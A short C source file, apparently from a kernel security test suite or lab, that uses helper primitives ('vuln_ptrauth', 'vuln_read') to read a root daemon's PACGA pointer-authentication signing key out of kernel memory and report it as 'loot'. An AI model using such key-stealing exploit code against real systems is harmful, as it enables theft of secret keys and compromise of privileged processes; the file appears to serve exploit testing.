// SPDX-License-Identifier: GPL-2.0-only
/*
 * Read the key by which a daemon of root signs data with PACGA, which no program
 * can read, where the kernel keeps it for when the daemon runs again.
 */
#include <stdio.h>

#include "common.h"

#define WORDS	2

int main(int argc, char **argv)
{
	u64 addr = vuln_ptrauth(parse_number(argc > 1 ? argv[1] : NULL));
	u64 key[WORDS];
	char token[TOKEN_LEN + 1];
	size_t i;

	for (i = 0; i < WORDS; i++)
		key[i] = vuln_read(addr + i * sizeof(*key));
	snprintf(token, sizeof(token), "%016llx%016llx", (unsigned long long)key[0],
		 (unsigned long long)key[1]);
	if (!is_token(token))
		die("this is not the key");
	report_loot(token);
	return 0;
}
